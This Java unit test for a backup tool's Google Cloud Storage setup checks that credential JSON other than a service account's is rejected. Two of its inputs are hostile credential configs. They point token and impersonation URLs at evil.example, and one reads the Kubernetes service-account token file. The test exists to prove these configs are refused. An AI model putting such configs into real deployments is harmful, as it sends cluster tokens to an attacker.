package io.cameleer.backup.store;

import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.cameleer.backup.BackupException;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StoresTest {
    /** What they name would be read and asked by this process: its token, sent to an address of the Secret's author. */
    @ParameterizedTest
    @ValueSource(strings = {"""
                {"type": "external_account", "audience": "a", "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
                 "token_url": "https://evil.example/token",
                 "credential_source": {"file": "/var/run/secrets/kubernetes.io/serviceaccount/token"}}""", """
                {"type": "impersonated_service_account", "source_credentials": {"type": "authorized_user"},
                 "service_account_impersonation_url": "https://evil.example/a:generateAccessToken"}""", "{}", "no JSON"})
    void googleCredentialsOfASecretAreThoseOfAServiceAccountOrNone(String json) {
        var location = new StoreLocation("gcs", "bucket", null, null, null, "spec.backup.");
        assertThatThrownBy(() -> Stores.open(location, Optional.of(Map.of("GOOGLE_APPLICATION_CREDENTIALS", json))))
                .isInstanceOf(BackupException.class)
                .hasMessageContaining("spec.backup.credentialsSecretRef.name: its key GOOGLE_APPLICATION_CREDENTIALS"
                        + " holds no service account's JSON");
    }
}
